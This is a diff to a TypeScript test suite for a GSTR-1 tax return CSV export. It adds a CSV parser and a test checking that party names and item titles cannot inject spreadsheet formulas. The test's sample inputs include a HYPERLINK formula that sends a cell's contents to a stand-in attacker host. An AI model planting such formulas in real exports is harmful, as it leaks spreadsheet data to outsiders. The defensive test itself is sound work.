@@ -314,6 +314,99 @@ describe("GSTR-1 month export", () => {
   });
 });
 
+/** RFC 4180 fields (quoted fields may hold commas, quotes and line breaks). */
+function parseCsv(text: string): string[][] {
+  const out: string[][] = [];
+  let row: string[] = [];
+  let field = "";
+  let quoted = false;
+  for (let i = 0; i < text.length; i++) {
+    const char = text[i] as string;
+    if (quoted) {
+      if (char === '"' && text[i + 1] === '"') {
+        field += '"';
+        i++;
+      } else if (char === '"') quoted = false;
+      else field += char;
+    } else if (char === '"') quoted = true;
+    else if (char === ",") {
+      row.push(field);
+      field = "";
+    } else if (char === "\r" && text[i + 1] === "\n") {
+      row.push(field);
+      out.push(row);
+      row = [];
+      field = "";
+      i++;
+    } else field += char;
+  }
+  if (field !== "" || row.length > 0) out.push([...row, field]);
+  return out;
+}
+
+describe("GSTR-1 tables carry no formulas", () => {
+  const HOSTILE = ['=HYPERLINK("http://evil.example/?"&A2,"x")', "+1+1", "-2+3", "@SUM(1)", "\t=1", "\r=1"];
+  const NUMBER_COLUMNS = [
+    "Invoice Value",
+    "Note Value",
+    "Rate",
+    "Taxable Value",
+    "Cess Amount",
+    "Total Quantity",
+    "Total Value",
+    "Integrated Tax Amount",
+    "Central Tax Amount",
+    "State/UT Tax Amount",
+    "Total Number",
+    "Cancelled",
+  ];
+
+  it("neutralises hostile names and descriptions in every table; numbers stay numbers", () => {
+    for (const hostile of HOSTILE) {
+      const party = { ...PUNE, tradeName: hostile };
+      const unregistered = { ...BENGALURU, name: hostile };
+      const cart = [{ ...(BIG[0] as (typeof BIG)[number]), title: hostile }];
+      const invoice = record("invoice", "RL/25-26/000010", "2026-03-10T06:00:00Z", party, cart);
+      const big = record("invoice", "RL/25-26/000011", "2026-03-10T07:00:00Z", unregistered, cart);
+      const earlier = record("invoice", "RL/25-26/000009", "2026-02-10T06:00:00Z", DELHI, MIXED);
+      const notes = [
+        record("credit-note", "CN/25-26/0010", "2026-03-20T06:00:00Z", party, cart, {
+          invoice: { number: invoice.number, issuedAt: invoice.issuedAt, total: invoice.total },
+        }),
+        record("credit-note", "CN/25-26/0011", "2026-03-20T07:00:00Z", unregistered, cart, {
+          invoice: { number: big.number, issuedAt: big.issuedAt, total: big.total },
+        }),
+        // A credit note on February's B2CS invoice makes March's B2CS row negative.
+        record("credit-note", "CN/25-26/0012", "2026-03-21T06:00:00Z", DELHI, MIXED, {
+          invoice: { number: earlier.number, issuedAt: earlier.issuedAt, total: earlier.total },
+        }),
+      ];
+      const { files } = buildGstr1("2026-03", [earlier, invoice, big, ...notes], NOW);
+      let negative = false;
+      for (const [table, text] of Object.entries(files)) {
+        const [header, ...body] = parseCsv(text);
+        expect(body.length, table).toBeGreaterThan(0);
+        for (const row of body) {
+          row.forEach((cell, index) => {
+            const column = header?.[index] ?? "";
+            if (NUMBER_COLUMNS.includes(column) && cell !== "") {
+              expect(cell, `${table} ${column}`).toMatch(/^-?\d+(\.\d+)?$/);
+              if (cell.startsWith("-")) negative = true;
+            } else {
+              expect(/^[=+\-@\t\r]/.test(cell), `${table} ${column}: ${JSON.stringify(cell)}`).toBe(false);
+            }
+          });
+        }
+      }
+      expect(negative).toBe(true);
+      const b2b = parseCsv(files.b2b);
+      expect(b2b[1]?.[1]).toBe(`'${hostile}`);
+      expect(parseCsv(files.cdnr)[1]?.[1]).toBe(`'${hostile}`);
+      expect(parseCsv(files.hsn).some((row) => row[1] === `'${hostile}`)).toBe(true);
+    }
+  });
+});
+
 describe("e-way bill bulk JSON", () => {
   it("Part A from the invoice, Part B from the transport; URP for an unregistered buyer", () => {
     const json = ewayBillBulkJson(SELLER, [
